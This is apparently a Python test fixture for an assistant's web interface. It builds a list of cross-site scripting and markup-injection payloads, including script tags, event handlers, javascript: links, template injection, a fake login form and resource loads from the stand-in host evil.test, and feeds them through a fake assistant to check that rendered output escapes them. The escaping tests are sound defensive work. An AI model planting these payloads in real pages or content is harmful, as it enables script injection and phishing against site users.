"""Markup that must stay text on the page, and an assistant that says nothing else."""

from __future__ import annotations

from collections.abc import AsyncGenerator, Sequence
from pathlib import Path

from assistant import Answer, Article, ArticleInfo, AssistantError, Citation, Disagreement, Statement, load_settings
from assistant.events import Event, Found, Stated
from assistant.retrieval.store import Counts, LedgerRow
from assistant.types import Block, Hit, Passage

TEMPLATES = (
    "<script>window.pwned=1</script>",
    "<img src=http://evil.test/1 onerror=alert(1)>",
    "<img srcset='http://evil.test/2 1x'>",
    "<svg onload=alert(3)><image href=http://evil.test/3></svg>",
    "<iframe src=http://evil.test/4></iframe>",
    "<object data=http://evil.test/5></object><embed src=http://evil.test/5>",
    "<form action=http://evil.test/6><input name=p><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/7'>",
    "<link rel=stylesheet href=http://evil.test/8>",
    "<style>@import url(http://evil.test/9)</style>",
    "<div style='background:url(http://evil.test/10)'>x</div>",
    "<table background=http://evil.test/11><tr><td>x</table>",
    "<video src=http://evil.test/12 poster=http://evil.test/12b autoplay></video>",
    "<audio src=http://evil.test/13 autoplay></audio>",
    "<input type=image src=http://evil.test/14>",
    "<a href='javascript:alert(15)' id=bait>click</a>",
    "<details open ontoggle=alert(16)>x</details>",
    "<base href=http://evil.test/17/>",
    "![x](http://evil.test/18)",
    "![x][r]\n\n[r]: http://evil.test/19",
    "[click](javascript:alert(20)) <http://evil.test/20>",
    "```mermaid\ngraph TD; A[<img src=http://evil.test/21>]\n```",
    '"><script src=http://evil.test/22></script>',
    "' onmouseover='alert(23)' autofocus onfocus='alert(23)' x='",
    "${alert(24)} {{constructor.constructor('alert(24)')()}} {{#each value}}{{/each}}",
    "</pre></textarea></template><script>alert(25)</script>",
    "$$\\href{javascript:alert(26)}{x}$$ \\(\\includegraphics{http://evil.test/26}\\)",
    "javascript:alert(27)",
    "data:text/html,<script>alert(28)</script>",
    "http://user@evil.test/29",
)
CONTEXTS = ("{}", "\"'>{}", "</p></button></span>{}", "Aa [1] {}\u200b\n{}")
PAYLOADS = tuple(context.replace("{}", payload) for payload in TEMPLATES for context in CONTEXTS)


class HostileState:
    """The state of an index whose sources and problems are all payloads."""

    def embedded(self, article_ids: Sequence[str]) -> dict[str, tuple[int, int]]:
        return dict.fromkeys(article_ids, (1, 2))

    def refreshed(self) -> tuple[int, int]:
        return 1, 2

    def skipped(self, limit: int) -> list[LedgerRow]:
        return [LedgerRow(one, None, "", 0, 0, "skipped", f"cannot read {one}") for one in PAYLOADS[:limit]]


class Hostile:
    """An assistant whose articles, answers, problems and errors are all payloads."""

    def __init__(self, folder: Path) -> None:
        self.settings = load_settings(environ={}, index=folder)
        self.embedder = None
        self.models = ()
        self.state = HostileState()

    def articles(self) -> list[ArticleInfo]:
        return [_info(number) for number in range(len(PAYLOADS))]

    def article(self, article_id: str) -> Article | None:
        number = int(article_id, 16)
        text = f"{PAYLOADS[number]}\n\nBefore {PAYLOADS[number]} after."
        blocks = (Block(0, len(PAYLOADS[number]), "heading"), Block(len(PAYLOADS[number]) + 2, len(text), "body"))
        about = {name: getattr(_info(number), name) for name in ArticleInfo.__slots__}
        found = dict.fromkeys(("publisher", "published", "author"), PAYLOADS[number])
        return Article(**about, found=found, text=text, blocks=blocks, notices=(PAYLOADS[number],))

    def counts(self) -> Counts:
        return Counts(len(PAYLOADS), 0, {"body": len(PAYLOADS)}, len(PAYLOADS), len(PAYLOADS))

    def ask(self, question: str) -> Answer:
        raise AssistantError(question)

    async def astream(self, question: str, history: object, filters: object) -> AsyncGenerator[Event, None]:
        citations = tuple(_citation(number) for number in range(len(PAYLOADS)))
        statements = tuple(Statement(payload, (number,)) for number, payload in enumerate(PAYLOADS))
        if question == "refuse":
            yield Found(PAYLOADS[1], ())
            yield Answer(question, PAYLOADS[1], "refused", "not_in_articles", PAYLOADS[1], nearest=citations)
            return
        if question == "fail":
            raise AssistantError(" ".join(PAYLOADS))
        passages = (Passage(f"{number:012x}", 0, 0, 9, "body", ()) for number in range(8))
        yield Found(PAYLOADS[0], tuple(Hit(one, PAYLOADS[n], _info(n), 1.0) for n, one in enumerate(passages)))
        yield Stated(statements[0], citations[:1])
        yield Answer(
            question,
            " ".join(PAYLOADS),
            "answered",
            None,
            " ".join(PAYLOADS),
            statements=statements,
            citations=citations,
            disagreements=(Disagreement(PAYLOADS[2], statements[:2]),),
            notices=PAYLOADS,
        )


def _info(number: int) -> ArticleInfo:
    payload = PAYLOADS[number]
    return ArticleInfo(f"{number:012x}", payload, payload, payload, payload, payload[:30], None, payload)


def _citation(number: int) -> Citation:
    info, payload = _info(number), PAYLOADS[number]
    start = len(payload) + 9
    return Citation(
        number, info.id, payload, payload, info.published, payload, "body", payload, start, start + len(payload)
    )
